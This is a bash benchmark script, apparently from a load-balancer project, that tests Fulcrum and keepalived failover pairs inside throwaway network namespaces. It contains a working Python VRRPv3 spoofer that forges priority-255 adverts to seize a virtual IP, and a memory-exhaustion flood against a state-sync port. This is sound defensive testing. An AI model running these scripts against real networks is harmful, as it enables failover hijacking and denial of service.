#!/usr/bin/env bash
# HA abuse rows of bench/abuse.sh (`ATTACKS=vrrpspoof,syncflood` there, or run alone): a stranger
# on the HA segment, against Fulcrum and keepalived. Two nodes (a: priority 150, b: 100, unicast
# peers of each other) and the stranger x on one Ethernet segment (a bridge), in network
# namespaces this script creates (198.18.0.0/24).
#
#   bench/ha-abuse.sh [SECS=10]     FULCRUM=path (default target/debug/fulcrum)
#                                   FULCRUM_BEFORE=path: also a row for an older binary
#
# VRRP spoof: x sends forged VRRPv3 adverts (VRID 51, priority 255, the same VIP, TTL 255, a
#   valid checksum) to a and b every 100 ms for SECS. Sampled every 100 ms: the share of samples
#   in which the real master a alone holds the VIP, and in which nobody holds it. Fulcrum with
#   `peers`; keepalived with `unicast_peer`, without and with `check_unicast_src`.
# Sync flood (Fulcrum only: keepalived has no state sync): x opens 100 connections to a's
#   ha.sync port, each announcing a 4 MiB frame and sending 1 MiB of it; reported: a's peak RSS
#   growth, and whether b's state change made during the flood reached a.
# Needs root, keepalived, python3, curl.
set -euo pipefail
cd "$(dirname "$0")/.."
. bench/lib.sh
need keepalived
need python3
need curl
SECS=${1:-10}
FULCRUM=${FULCRUM:-target/debug/fulcrum}
[ "$FULCRUM" = target/debug/fulcrum ] && cargo build -q -p fulcrum
FULCRUM_BEFORE=${FULCRUM_BEFORE:-}
VIP=198.18.0.100
KEY=a-sync-key-for-the-bench-0123
work=$(mktemp -d)
P=

nsx() { ip netns exec "$P-$1" "${@:2}"; }

teardown() {
  [ -n "$P" ] || return 0
  for n in a b x sw; do
    for pid in $(ip netns pids "$P-$n" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
    ip netns del "$P-$n" 2>/dev/null || true
  done
  P=
}
sweep() {  # every namespace of this run, also those of a run cut short inside $(...)
  for ns in $(ip netns list | awk '{print $1}' | grep "^fl-haab-$$-"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
    ip netns del "$ns" 2>/dev/null || true
  done
}
trap 'sweep; rm -rf "$work"' EXIT

segment() {  # fresh names every run (a deleted namespace's name is not reusable at once)
  P="fl-haab-$$-$RANDOM"
  ha_segment "$P" x
}

fulcrum_node() {  # fulcrum_node BINARY NAME PRIORITY ME PEER [SYNC]
  local bin=$1 n=$2 prio=$3 me=$4 peer=$5 sync=${6:-}
  {
    cat <<CONF
[admin]
listen = "127.0.0.1:9900"
token = "bench-admin-token-0123456789"
[ha]
node = "$n"
interface = "eth0"
vrid = 51
priority = $prio
advert_interval = "100ms"
vips = ["$VIP/24"]
peers = ["$peer"]
CONF
    [ -n "$sync" ] && echo "sync = { listen = \"$me:7500\", peers = [\"$peer:7500\"], key = \"$KEY\" }"
    cat <<CONF
[[virtual_service]]
name = "web"
listen = ["0.0.0.0:80"]
protocol = "tcp"
pool = "local"
[[pool]]
name = "local"
[[pool.member]]
address = "127.0.0.1:8080"
CONF
  } >"$work/$n.toml"
  nsx "$n" "$bin" run -c "$work/$n.toml" 2>"$work/$n.log" &
}

keepalived_node() {  # keepalived_node NAME PRIORITY ME PEER CHECK_SRC(0/1)
  local n=$1 prio=$2 me=$3 peer=$4 check=$5
  cat >"$work/$n.conf" <<CONF
global_defs {
  router_id $n
  vrrp_version 3
}
vrrp_instance VI {
  state BACKUP
  interface eth0
  virtual_router_id 51
  priority $prio
  advert_int 0.1
  unicast_src_ip $me
  unicast_peer {
    $peer
  }
  $([ "$check" = 1 ] && echo check_unicast_src)
  virtual_ipaddress {
    $VIP/24
  }
}
CONF
  # Pid files of this run's own (a killed keepalived leaves its files, and its pid may be reused).
  local f="$work/$P-$n"
  nsx "$n" keepalived -f "$work/$n.conf" --dont-fork -l -P -p "$f.pid" -r "$f.vrrp.pid" \
    -c "$f.chk.pid" >"$work/$n.log" 2>&1 &
}

holds_vip() { ip -n "$P-$1" -4 addr show dev eth0 | grep -q "inet $VIP/"; }

settle() {  # a master, b backup, still so 1 s later
  for _ in $(seq 200); do
    if holds_vip a && ! holds_vip b; then
      sleep 1
      holds_vip a && ! holds_vip b && return 0
    fi
    sleep 0.05
  done
  echo "node a never settled as the only master" >&2
  cat "$work"/a.log >&2
  return 1
}

cat >"$work/spoof.py" <<'PY'
# Forged VRRPv3 adverts: VRID 51, priority 255, one address, to each target every 100 ms.
import socket, struct, sys, time
src, vip, secs, targets = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4:]
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
end, sent = time.time() + secs, 0
while time.time() < end:
    for t in targets:
        body = struct.pack("!BBBBHH", 0x31, 51, 255, 1, 10, 0) + socket.inet_aton(vip)
        pseudo = socket.inet_aton(src) + socket.inet_aton(t) + struct.pack("!BBH", 0, 112, len(body))
        body = body[:6] + struct.pack("!H", csum(pseudo + body)) + body[8:]
        s.sendto(body, (t, 0)); sent += 1
    time.sleep(0.1)
print(sent)
PY

cat >"$work/flood.py" <<'PY'
# 100 connections to the sync port, each announcing a 4 MiB frame and sending 1 MiB of it;
# held for `hold` seconds, then closed.
import socket, struct, sys, time
host, port, hold = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
held, chunk = [], b"\0" * 65536
for _ in range(100):
    try:
        c = socket.create_connection((host, port), timeout=0.5)
        c.settimeout(0.5)
        c.sendall(struct.pack("!I", 4 * 1024 * 1024))
        for _ in range(16): c.sendall(chunk)
    except OSError:
        pass
    held.append(c)
time.sleep(hold)
PY

# vrrp_spoof KIND [BINARY|CHECK] -> "master alone X % / nobody Y % (extra)"
vrrp_spoof() {
  local kind=$1 arg=${2:-} alone=0 nobody=0 total=0 extra=""
  segment
  if [ "$kind" = fulcrum ]; then
    fulcrum_node "$arg" a 150 198.18.0.1 198.18.0.2
    sleep 0.3
    fulcrum_node "$arg" b 100 198.18.0.2 198.18.0.1
  else
    keepalived_node a 150 198.18.0.1 198.18.0.2 "$arg"
    sleep 0.3
    keepalived_node b 100 198.18.0.2 198.18.0.1 "$arg"
  fi
  settle
  nsx x python3 "$work/spoof.py" 198.18.0.10 "$VIP" "$SECS" 198.18.0.1 198.18.0.2 >"$work/sent" &
  local spoofer=$!
  sleep 0.2
  while kill -0 "$spoofer" 2>/dev/null; do
    total=$((total + 1))
    if holds_vip a && ! holds_vip b; then alone=$((alone + 1)); fi
    if ! holds_vip a && ! holds_vip b; then nobody=$((nobody + 1)); fi
    sleep 0.1
  done
  wait "$spoofer"
  if [ "$kind" = fulcrum ]; then
    extra=$(nsx a curl -s -H "Authorization: Bearer bench-admin-token-0123456789" 127.0.0.1:9900/api/v1/ha |
      python3 -c 'import json,sys; d=json.load(sys.stdin)["dropped"]; print("; not_a_peer %s" % d["not_a_peer"] if "not_a_peer" in d else "")')
  fi
  echo "$((alone * 100 / total)) % / $((nobody * 100 / total)) % ($(cat "$work/sent") forged$extra)"
  teardown
  wait 2>/dev/null || true
}

sync_flood() {  # sync_flood BINARY -> "RSS +N MiB; b's change reached a: yes/no (...)"
  local bin=$1
  segment
  fulcrum_node "$bin" a 150 198.18.0.1 198.18.0.2 sync
  sleep 0.3
  fulcrum_node "$bin" b 100 198.18.0.2 198.18.0.1 sync
  settle
  sleep 1
  local pid="" p exe
  exe=$(readlink -f "$bin")
  for p in $(ip netns pids "$P-a"); do [ "$(readlink -f "/proc/$p/exe")" = "$exe" ] && pid=$p; done
  [ -n "$pid" ] || { echo "no Fulcrum process in a" >&2; return 1; }
  local before peak now reached=no
  before=$(rss_kib "$pid")
  peak=$before
  nsx x python3 "$work/flood.py" 198.18.0.1 7500 3 &
  local flood=$!
  local t0=$SECONDS
  while kill -0 "$flood" 2>/dev/null && [ $((SECONDS - t0)) -lt 30 ]; do
    now=$(rss_kib "$pid"); [ "$now" -gt "$peak" ] && peak=$now
    sleep 0.1
  done
  wait "$flood" || true
  # b drains its member during a second flood: does a follow within 5 s?
  nsx x python3 "$work/flood.py" 198.18.0.1 7500 6 &
  flood=$!
  sleep 1
  nsx b curl -s -o /dev/null -X PUT -H "Authorization: Bearer bench-admin-token-0123456789" \
    -H 'Content-Type: application/json' -d '{"state":"drain"}' \
    127.0.0.1:9900/api/v1/pools/local/members/127.0.0.1:8080/state
  for _ in $(seq 50); do
    if nsx a curl -s -H "Authorization: Bearer bench-admin-token-0123456789" \
      127.0.0.1:9900/api/v1/pools/local/members/127.0.0.1:8080 | grep -q '"state": *"drain"'; then
      reached=yes; break
    fi
    sleep 0.1
  done
  wait "$flood" || true
  local counts
  counts=$(nsx a curl -s -H "Authorization: Bearer bench-admin-token-0123456789" 127.0.0.1:9900/api/v1/ha |
    python3 -c 'import json,sys; s=json.load(sys.stdin)["sync"]; print("; refused %s, first-frame timeouts %s" % (s["unauthenticated_refused"], s["first_frame_timeouts"]) if "unauthenticated_refused" in s else "")')
  echo "RSS +$(((peak - before) / 1024)) MiB; b's change reached a: $reached$counts"
  teardown
  wait 2>/dev/null || true
}

kv=$(keepalived --version 2>&1 | head -1 | awk '{print $2}')
echo "| HA attack (${SECS} s) | result |"
echo "|---|---|"
echo "| VRRP spoof, Fulcrum with peers — master a alone holds the VIP / nobody does | $(vrrp_spoof fulcrum "$FULCRUM") |"
[ -n "$FULCRUM_BEFORE" ] && echo "| VRRP spoof, Fulcrum before the source check | $(vrrp_spoof fulcrum "$FULCRUM_BEFORE") |"
echo "| VRRP spoof, keepalived $kv with unicast_peer | $(vrrp_spoof keepalived 0) |"
echo "| VRRP spoof, keepalived $kv with unicast_peer and check_unicast_src | $(vrrp_spoof keepalived 1) |"
echo "| sync flood, Fulcrum (100 connections × 4 MiB announced, 1 MiB sent) | $(sync_flood "$FULCRUM") |"
[ -n "$FULCRUM_BEFORE" ] && echo "| sync flood, Fulcrum before the bounds | $(sync_flood "$FULCRUM_BEFORE") |"
exit 0
